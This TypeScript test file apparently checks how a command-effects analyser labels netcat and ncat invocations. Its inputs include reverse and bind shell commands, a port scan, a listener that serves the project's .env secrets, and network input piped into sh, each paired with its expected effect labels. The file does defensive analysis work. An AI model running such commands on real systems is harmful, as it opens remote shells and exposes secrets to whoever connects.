import { testEffects } from "../../../support/effects-of.ts";

testEffects("nc", [
  { run: "nc -h", effects: [] },
  {
    run: "nc h.example 80",
    effects: ["connect h.example:80 sends …", "output … {network h.example}"],
  },
  {
    run: "echo hi | nc h.example 80",
    effects: ['connect h.example:80 sends "hi\\n"', "output … {network h.example}"],
  },
  {
    run: "nc -e /bin/sh h.example 80",
    effects: [
      "code shell … {network h.example}",
      "output … {network h.example}",
      "connect h.example:80 for shell",
      "output … {network h.example}",
    ],
  },
  {
    run: "nc -l -p 8080 -e /bin/bash",
    effects: [
      "code shell … {network whoever connects}",
      "output … {network whoever connects}",
      "listen offers=shell",
      "output … {network whoever connects}",
    ],
  },
  {
    run: "nc -l 8080",
    effects: ["listen offers=files", "output … {network whoever connects}"],
  },
  {
    run: "nc -z h.example 443",
    effects: ["connect h.example:443", "output … {network h.example}"],
  },
  {
    run: "nc -z h.example 1-1000",
    effects: ["connect h.example:1-1000 for scan", "output … {network h.example}"],
  },
  {
    run: "nc -l 8080 < .env",
    effects: [
      "read flows /home/dev/project/.env",
      "listen offers=files",
      "connect … sends … {secret .env}",
      "output … {network whoever connects}",
    ],
  },
  {
    run: "nc -lvnp 4444 | sh",
    effects: [
      "listen offers=files",
      "code shell … {network whoever connects}",
      "output … {network whoever connects}",
    ],
  },
  {
    run: "ncat --exec 'cat a' h.example 80",
    effects: [
      "read flows /home/dev/project/a",
      "connect h.example:80 sends …",
      "output … {network h.example}",
    ],
  },
]);
